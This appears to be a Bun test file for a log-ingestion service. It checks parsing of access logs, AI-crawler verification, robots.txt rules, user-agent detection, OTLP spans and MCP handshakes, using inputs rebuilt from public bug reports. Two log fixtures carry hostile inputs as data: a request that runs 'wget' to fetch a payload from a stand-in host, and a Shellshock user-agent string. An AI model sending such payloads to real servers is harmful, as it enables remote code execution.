/**
 * Inputs of public bug reports about products that do this job, rebuilt with documentation addresses: each is read
 * right, or refused, or counted. `earlierReading` says what this product made of it when the report was found.
 */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { detectAgent } from '../../sdk/agents/detect-agent.ts'
import { detectFormat } from '../../server/access/detect-format.ts'
import { agentEvents, lineReader } from '../../server/access/agent-events.ts'
import { visitors } from '../../server/access/visitors.ts'
import { markRobots } from '../../server/robots/judge.ts'
import { plainOptions } from '../support/access-logs.ts'
import { send } from '../support/mcp.ts'
import { testServer, type TestServer } from '../support/server.ts'

/** OpenAI publishes the network of this address for GPTBot. */
const published = '20.171.206.9'
const elsewhere = '198.51.100.7'
const gptBot = 'Mozilla/5.0 (compatible; GPTBot/1.3; +https://openai.com/gptbot)'
const plus = gptBot.replaceAll(' ', '+')
const when = '05/Nov/2026:10:00:00 +0000'
const request = `"GET / HTTP/1.1" 200 5 "-" "${gptBot}"`
const wasRight = 'read right'

interface LogReport {
  source: string
  earlierReading: string
  lines: string[]
  trustedProxies?: string[]
  /** Verdicts of the agents' requests and kinds of the other lines; null: refused, with a sentence. */
  reading: string[] | null
  host?: string
}

const caddy = (address: { [name: string]: string }): string =>
  JSON.stringify({
    ts: 1_793_872_800.5,
    request: {
      ...address,
      method: 'GET',
      host: 'shop.example',
      uri: '/',
      headers: { 'User-Agent': [gptBot], 'X-Forwarded-For': ['203.0.113.9, 192.0.2.1'] },
    },
    status: 200,
  })
const iisFields =
  '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status ' +
  'time-taken X-Forwarded-For'
const iis = (peer: string, forwarded: string): string =>
  `2026-11-05 10:00:00 10.0.0.4 GET / a=1 443 - ${peer} ${plus} 200 85 ${forwarded}`

const logs: LogReport[] = [
  {
    source: 'https://github.com/allinurl/goaccess/issues/218',
    earlierReading: 'refused; a client that asked for an address as host was verified by that address',
    lines: [
      `${published} shop.example - [${when}] ${request}`,
      `${elsewhere} b.example - [${when}] ${request}`,
    ],
    reading: ['verified', 'contradicted'],
    host: 'shop.example',
  },
  {
    source: 'https://github.com/traefik/traefik/issues/11722',
    earlierReading: 'the user agent ended at the quote, without a word',
    lines: [
      `${elsewhere} - - [${when}] "GET / HTTP/2.0" 200 659 "-" "${gptBot}" 115 "a@file" "http://127.0.0.1:3001" 1ms`,
      `${elsewhere} - - [${when}] "GET / HTTP/2.0" 200 659 "-" "foo " bar" 116 "a@file" "http://127.0.0.1:3001" 1ms`,
    ],
    reading: ['contradicted', 'bad'],
  },
  {
    source: 'https://github.com/traefik/traefik/issues/6481',
    earlierReading: 'in a log of Traefik, the lines of pings were bad',
    lines: [
      `${published} - - [${when}] ${request} 1 "shop@docker" "http://172.18.0.2:80" 3ms`,
      `${published} - - [${when}] ${request} 2 "ping@internal" - 0ms`,
    ],
    reading: ['verified', 'verified'],
  },
  {
    source: 'https://github.com/traefik/traefik/issues/2649',
    earlierReading: 'read without its user agent, so that no agent was found',
    lines: [
      `${published} - - [${when}] "GET / HTTP/1.1" 200 5 - "${gptBot}" 5 "shop" "http://172.18.0.2:80" 3ms`,
    ],
    reading: ['verified'],
  },
  {
    source: 'https://github.com/elastic/logstash/issues/7779',
    earlierReading: 'refused: JSON of nginx without escape=json',
    lines: [
      `{"@timestamp":"2026-11-05T10:00:00+08:00","clientip":"${published}","request":"POST /c HTTP/1.1",` +
        `"http_user_agent":"${gptBot} \\xC3\\xA3\\x22 \\x5C","size":7513,"http_host":"shop.example","status":"200"}`,
    ],
    reading: ['verified'],
    host: 'shop.example',
  },
  {
    source: 'https://github.com/matomo-org/matomo-log-analytics/issues/16',
    earlierReading: 'the lines with an umlaut were bad',
    lines: [
      `{"ip": "${published}","path": "/a","status": "200","user_agent": "${gptBot}","date": "2026-11-05T10:00:00Z"}`,
      `{"ip": "${published}","path": "/a","status": "200","user_agent": "GPTBot/1 F\\xFA",` +
        '"date": "2026-11-05T10:00:00Z"}',
    ],
    reading: ['verified', 'verified'],
  },
  {
    source: 'https://github.com/freeunitorg/freeunit/pull/196',
    earlierReading: wasRight,
    lines: [
      `{"time":"2026-11-05T10:00:00Z","request":"GET / HTTP/1.1","status":200,"remote_addr":"${published}",` +
        `"user_agent":"${gptBot} \xff","referer":"\xfe"}`,
    ],
    reading: ['verified'],
  },
  {
    source: 'https://github.com/allinurl/goaccess/issues/2717',
    earlierReading: 'the duration before the address was stored as the host',
    lines: [`336 ${published} - - [${when}] ${request} "10.1.232.31" "shop.example"`],
    reading: ['verified'],
    host: '',
  },
  {
    source: 'https://github.com/allinurl/goaccess/issues/2117',
    earlierReading: 'the quote around the line was stored with the host, and the size was lost',
    lines: [`"shop.example ${published} - - [${when}] "GET / HTTP/2" 200 10540 "-" "${gptBot}""`],
    reading: ['verified'],
    host: 'shop.example',
  },
  {
    source: 'https://github.com/allinurl/goaccess/issues/2198',
    earlierReading: wasRight,
    lines: [`"${published} - - [${when}] ${request}"`],
    reading: ['verified'],
  },
  {
    source: 'https://github.com/allinurl/goaccess/issues/2232',
    earlierReading: 'read as a log without user agents, whose requests got no response',
    lines: [`${published} - - [${when}] "GET https://a.example/b HTTP/2.0" "-" "${gptBot}"`],
    reading: null,
  },
  {
    source: 'https://github.com/allinurl/goaccess/issues/1066',
    earlierReading: 'read as a log without user agents and without requests',
    lines: [`${published} - - [2026-11-05T10:00:00+00:00] "localhost" ${request} 0.038`],
    reading: null,
  },
  {
    source: 'https://github.com/allinurl/goaccess/issues/2814',
    earlierReading: 'a word of the tunnel was read as X-Forwarded-For',
    lines: [
      caddy({ remote_ip: published }),
      caddy({ remote_ip: 'ziti-edge-router connId=2147483679, logical=ziti', client_ip: '' }),
    ],
    reading: ['verified', 'unverifiable'],
  },
  {
    source: 'https://github.com/crowdsecurity/hub/issues/995',
    earlierReading: wasRight,
    lines: [caddy({ remote_ip: published, remote_port: '10251', proto: 'HTTP/1.1' })],
    reading: ['verified'],
    host: 'shop.example',
  },
  {
    source: 'https://github.com/allinurl/goaccess/issues/1116',
    earlierReading: wasRight,
    lines: [
      `${published} - [${published}] - - [${when}] ${request} 563 0.102 [up] 10.4.34.8:80 39615 0.102 200`,
    ],
    reading: ['verified'],
  },
  {
    source: 'https://github.com/allinurl/goaccess/issues/2310',
    earlierReading: wasRight,
    lines: [`\u001b[0;33;1mnginx.1     | \u001b[0mshop.example ${published} - - [${when}] ${request}`],
    reading: ['verified'],
    host: 'shop.example',
  },
  {
    source: 'https://github.com/allinurl/goaccess/issues/2735',
    earlierReading: wasRight,
    lines: [iisFields, iis('172.18.23.68', `${published}:33453,+172.16.0.1:49770`)],
    trustedProxies: ['172.16.0.0/12'],
    reading: ['note', 'verified'],
  },
  {
    source: 'https://github.com/elastic/beats/issues/34642',
    earlierReading: wasRight,
    lines: [iisFields, iis('172.20.98.22', `${published},${elsewhere}`)],
    trustedProxies: ['172.16.0.0/12'],
    reading: ['note', 'contradicted'],
  },
  {
    source: 'https://github.com/elastic/integrations/issues/5206',
    earlierReading: `${wasRight}: what stands before the address is no address, so nothing is proved`,
    lines: [iisFields, iis('192.168.1.1', `\\${published}`)],
    trustedProxies: ['192.168.0.0/16'],
    reading: ['note', 'unverifiable'],
  },
  {
    source: 'https://github.com/elastic/integrations/issues/3491',
    earlierReading: wasRight,
    lines: [
      `http 2026-11-05T10:00:00.051646Z app/lb/30 ${published}:41542 - -1 -1 -1 301 - 233 390 ` +
        `"GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/jaws HTTP/1.1" "${gptBot}" - - - "Root=1-6" ` +
        '"-" "-" 0 2026-11-05T10:00:00.051000Z "redirect" "https://127.0.0.1:443/" "-" "-" "-" "Acceptable" "SpaceInUri"',
    ],
    reading: ['verified'],
  },
  {
    source: 'https://github.com/awslabs/athena-glue-service-logs/pull/3',
    earlierReading: wasRight,
    lines: [
      `2026-11-05T10:00:00.132252Z lb ${published}:44444 10.2.3.1:80 0.000048 0.000504 0.000025 301 301 0 178 ` +
        `"GET http://10.2.2.4:80/ HTTP/1.0" "\\"${gptBot}\\"" - -`,
    ],
    reading: ['verified'],
  },
  {
    source: 'https://github.com/vozlt/nginx-module-vts/issues/328',
    earlierReading: wasRight,
    lines: [
      `${elsewhere} - ${published} [${when}] "GET / HTTP/1.1" 444 0 "-" "() { :; }; bash -c \\x22a\\x22 # ${gptBot}"`,
    ],
    reading: ['contradicted'],
  },
  {
    source: 'https://github.com/elastic/integrations/issues/6219',
    earlierReading: 'refused, as now: the log of CloudFront in real time has no line that names its fields',
    lines: [`1793872800.937\t${published}\t0.332\t403\t347\tGET\thttps\ta.example\t/\t50\tARN1-C1\tuou6`],
    reading: null,
  },
]

function bytesOf(line: string): string {
  return /[\u0080-\u00ff]/.test(line) ? line : Buffer.from(line).toString('latin1')
}

describe.each(logs)('$source', ({ source, lines, trustedProxies = [], reading, host }) => {
  const text = lines.map(bytesOf)

  test('as a file', () => {
    const detection = detectFormat(`${text.join('\n')}\n`)
    if (!('guess' in detection)) {
      expect(reading).toBeNull()
      expect(detection.seen).toContain('no known format fits')
      return
    }
    const eventsOf = agentEvents({ ...plainOptions, trustedProxies })
    const read = lineReader(detection.guess.format.open(), eventsOf, { name: source, secret: null })
    const results = text.map((line) => {
      const { kind, events } = read(line, 0, line.length, 0)
      return { kind, event: events[0] }
    })
    expect(results.map(({ kind, event }) => event?.verdict ?? kind)).toEqual(reading as never)
    const [agent] = results.flatMap(({ event }) => (event === undefined ? [] : [event]))
    const { metadata } = JSON.parse(agent?.json ?? '{}') as { metadata?: { host?: string } }
    if (host !== undefined) expect(metadata?.host ?? '').toBe(host)
  })

  test('as a body', async () => {
    const query = new URLSearchParams({
      siteId: source.slice('https://'.length),
      trustedProxy: trustedProxies.join(','),
    })
    const response = await server.call(`/v1/sdk/access-logs?${query}`, {
      method: 'POST',
      key: ingestKey,
      body: Buffer.from(`${text.join('\n')}\n`, 'latin1'),
      headers: { 'content-type': 'text/plain' },
    })
    if (reading === null) {
      const refusal = await response.text()
      expect([response.status, refusal]).toEqual([415, expect.stringContaining('no known format fits')])
      return
    }
    expect(response.status).toBe(202)
    expect(await response.json()).toMatchObject({
      lines: lines.length,
      bad: reading.filter((kind) => kind === 'bad').length,
    })
  })
})

let server: TestServer
let ingestKey: string
let secretKey: string

beforeAll(async () => {
  server = await testServer()
  ingestKey = await server.key('ingest')
  secretKey = await server.key('secret')
})
afterAll(() => server[Symbol.asyncDispose]())

/** All were read right when they were found. */
const robots: [source: string, file: string, agent: string, path: string, verdict: string][] = [
  [
    'https://github.com/scrapy/scrapy/issues/6195',
    '\ufeffUser-agent: *\nDisallow: /',
    'GPTBot',
    '/a',
    'disallowed',
  ],
  [
    'https://github.com/crawler-commons/crawler-commons/issues/195',
    'User-agent: *\nDisallow: /*%2F*',
    'GPTBot',
    '/a/b',
    'allowed',
  ],
  [
    'https://github.com/scrapy/protego/issues/28',
    'User-agent: *\nDisallow: /en-uk/*q=*relevance*',
    'GPTBot',
    '/en-uk/c/4018?q=%3Arelevance%3Atype',
    'disallowed',
  ],
  [
    'https://github.com/crawler-commons/crawler-commons/issues/389',
    'User-agent: *\nDisallow: /foo/bar/ツ',
    'GPTBot',
    '/foo/bar/%E3%83%84',
    'disallowed',
  ],
  [
    'https://github.com/crawler-commons/crawler-commons/issues/453',
    'User-agent: *\nAllow: /\n\nUser-agent: gptBOT\nDisallow: /',
    'GPTBot',
    '/test',
    'disallowed',
  ],
  [
    'https://github.com/internetarchive/wayback/pull/12',
    'User-agent: ClaudeBot\n\nUser-agent: GPTBot\nDisallow: /',
    'ClaudeBot',
    '/a',
    'disallowed', // RFC 9309: a blank line ends no group
  ],
]

test.each(robots)('%s', (_, text, agent, path, verdict) => {
  expect(markRobots([{ version: 1, fromMs: 0, text }])(agent, path, 1)?.robots).toBe(verdict as never)
})

/** All were read right when they were found; null: a person. */
const userAgents: [source: string, userAgent: string, name: string | null][] = [
  [
    'https://github.com/oalders/http-browserdetect/issues/136',
    'Mozilla/5.0 (Linux; Android 5.1; CUBOT_NOTE_S Build/LMY47I) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/39.0',
    null,
  ],
  [
    'https://github.com/matomo-org/device-detector/issues/5484',
    'Mozilla/5.0 (Linux; Android 5.1; FEVER Build/LMY47D; wv) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/49.0',
    null,
  ],
  [
    'https://github.com/mitchellkrogza/nginx-ultimate-bad-bot-blocker/issues/579',
    'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)',
    'ClaudeBot',
  ],
  ['https://github.com/JayBizzle/Crawler-Detect/pull/601', 'ChatGPT-User', 'ChatGPT-User'],
  ['https://github.com/arcjet/well-known-bots/pull/65', 'Claude-SearchBot/1.0', 'Claude-SearchBot'],
  [
    'https://github.com/monperrus/crawler-user-agents/pull/430',
    'Gemini-Deep-Research',
    'Gemini-Deep-Research',
  ],
]

test.each(userAgents)('%s', (_, userAgent, name) => {
  expect(detectAgent(userAgent)?.name ?? null).toBe(name)
  if (name === null) expect(visitors().of(userAgent)).toBe('person')
})

test('https://github.com/JayBizzle/Crawler-Detect/issues/283', () => {
  const userAgent =
    'Mozilla/5.0 (Linux; Android 7.0; M bot 60 Build/NRD90M; wv) AppleWebKit/537.36 (KHTML, like Gecko) ' +
    'Version/4.0 Chrome/67.0.3396.87 Mobile Safari/537.36'
  // A telephone. It was counted as another program, and a visit that an assistant sent was lost.
  expect(visitors().of(userAgent)).toBe('person')
})

interface OtlpReport {
  source: string
  span: { [field: string]: unknown }
  rejected: number
}

const ids = { traceId: '5b8efff798038103d269b633813fc60c', spanId: 'eee19b7ec3c1b174' }
const instants = { startTimeUnixNano: '1793872800000000000', endTimeUnixNano: '1793872801000000000' }
/** All were read right when they were found: stored, or refused alone. */
const spans: OtlpReport[] = [
  {
    source: 'https://github.com/langfuse/langfuse/issues/14068',
    span: { ...ids, attributes: [{ key: 'gen_ai.usage.input_tokens', value: { intValue: '25' } }] },
    rejected: 0,
  },
  {
    source: 'https://github.com/open-telemetry/opentelemetry-specification/pull/2758',
    span: { ...ids, kind: 'SPAN_KIND_SERVER', status: { code: 'STATUS_CODE_OK' } },
    rejected: 0,
  },
  {
    source: 'https://github.com/open-telemetry/opentelemetry-swift/issues/537',
    span: { ...ids, traceId: 'OWUyYTNkYzA2MDc0YjE3NTQwZDU0ZGU0ZTUxZTczNWY=' },
    rejected: 1,
  },
  {
    source: 'https://github.com/open-telemetry/opentelemetry-collector/issues/3195',
    span: { traceId: 'cgXI6uihz643E6Zqq7Nl4w==', spanId: '+iPdFTeJDX8=', kind: 'SPAN_KIND_INTERNAL' },
    rejected: 0, // base64 of the right length is no hexadecimal number
  },
]

test.each(spans)('$source', async ({ span, rejected }) => {
  const good = { ...ids, ...instants, name: 'good', spanId: 'eee19b7ec3c1b175' }
  const body = { resourceSpans: [{ scopeSpans: [{ spans: [{ ...instants, name: 'a', ...span }, good] }] }] }
  const response = await server.call('/v1/traces', { method: 'POST', key: ingestKey, body })
  const answer = (await response.json()) as { partialSuccess?: { rejectedSpans?: string | number } }
  expect([response.status, Number(answer.partialSuccess?.rejectedSpans ?? 0)]).toEqual([200, rejected])
})

/** All were answered when they were found. */
const accepted: [source: string, accept: string | undefined][] = [
  ['https://github.com/OpenLiberty/open-liberty/issues/35727', 'application/json'],
  ['https://github.com/masumi-network/Citadel/issues/45', '*/*'],
  ['https://github.com/vercel/vercel-mcp-overview/issues/1', 'application/json, application/mcp+json'],
  ['https://github.com/diillson/chatcli/pull/916', 'text/event-stream, application/json'],
]

test.each(accepted)('%s', async (_, accept) => {
  const params = {
    protocolVersion: '2025-03-26',
    capabilities: {},
    clientInfo: { name: 'test-client', version: '1.0' },
  }
  const message = { jsonrpc: '2.0', id: 1, method: 'initialize', params }
  const answer = await send(server.call, secretKey, message, accept === undefined ? {} : { accept })
  expect([answer.status, answer.result?.['protocolVersion']]).toEqual([200, '2025-03-26'])
})
